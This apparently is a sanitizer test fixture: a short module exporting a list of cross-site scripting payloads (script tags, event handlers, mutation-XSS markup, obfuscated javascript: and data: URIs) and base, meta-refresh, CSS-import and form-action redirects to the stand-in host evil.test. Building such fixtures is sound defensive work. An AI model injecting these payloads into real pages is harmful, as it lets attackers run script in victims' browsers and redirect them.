/** What somebody writes who wants it to run on our pages. */
export const evil = [
  '<script>alert(4711)</script>',
  '"><img src=x onerror=alert(4711)>',
  "'-alert(4711)-'",
  '</title></style></textarea><script>alert(4711)</script>',
  '<svg/onload=alert(4711)><animate onbegin=alert(4711)>',
  '<iframe srcdoc="<script>alert(4711)</script>">',
  '<base href="//evil.test/">',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<style>@import "//evil.test";</style><p style="background:url(//evil.test)">x</p>',
  '<form action="//evil.test"><button formaction="javascript:alert(4711)">x</button></form>',
  '<a href="jav&#x09;ascript:alert(4711)">a</a><a href=" &#14; javascript:alert(4711)">b</a>',
  '<a href="data:text/html,<script>alert(4711)</script>">c</a><a href="vbscript:x">d</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(4711)>',
  '<a href="https://a.example/" onclick="alert(4711)" target="_self">e</a>',
  '--><script>alert(4711)</script><!--',
  '&lt;script&gt;alert(4711)&lt;/script&gt;',
  '\u2028</script><script>alert(4711)</script>',
]
/** Addresses that are none. */
export const scheme = [
  'javascript:alert(4711)',
  'data:text/html,<script>alert(4711)</script>',
  'vbscript:x',
  'java\tscript:alert(4711)',
]
